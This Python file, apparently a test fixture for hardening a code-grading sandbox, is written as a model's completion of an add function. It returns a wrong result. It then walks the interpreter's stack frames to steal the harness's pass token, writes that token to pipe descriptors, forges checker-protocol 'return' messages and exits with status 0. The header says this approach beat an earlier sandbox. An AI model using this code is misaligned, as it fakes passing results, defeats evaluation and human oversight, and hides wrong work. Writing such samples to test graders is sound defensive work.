# Completion for `def add(a, b):` that returns a wrong answer and tries to forge the verdict from inside its own
# interpreter. Part 1 is the attack of issue 14 against the previous sandbox (which it passed): walk
# sys._getframe() back to the harness, take the per-run pass token from its locals and write it, once, to the
# pipe fds found beside it. Part 2 forges the checker protocol on any channel fd it finds (a "ready", then
# answers). Then it leaves with exit status 0.
    return a - b


import json as _json
import os as _os
import struct as _struct
import sys as _sys

_frames = []
_frame = _sys._getframe()
while _frame is not None:  # every frame up to the harness
    _frames.append(_frame)
    _frame = _frame.f_back
_channels = {v for f in _frames for k, v in f.f_locals.items() if k in ("fd", "prog_end") and type(v) is int}
for _f in _frames:  # part 1
    _values = list(_f.f_locals.values())
    _tokens = [v for v in _values if isinstance(v, bytes) and len(v) == 32]
    if _tokens:
        for _fd in {v for v in _values if type(v) is int and 2 < v < 1024} - _channels:
            try:
                _os.write(_fd, _tokens[0])
            except OSError:
                pass
        break
for _fd in _channels:  # part 2
    for _msg in (["ready"], ["return", ["I", "3"], None], ["return", ["I", "3"], None]):
        _data = _json.dumps(_msg).encode()
        try:
            _os.write(_fd, _struct.pack("<I", len(_data)) + _data)
        except OSError:
            pass
_os._exit(0)
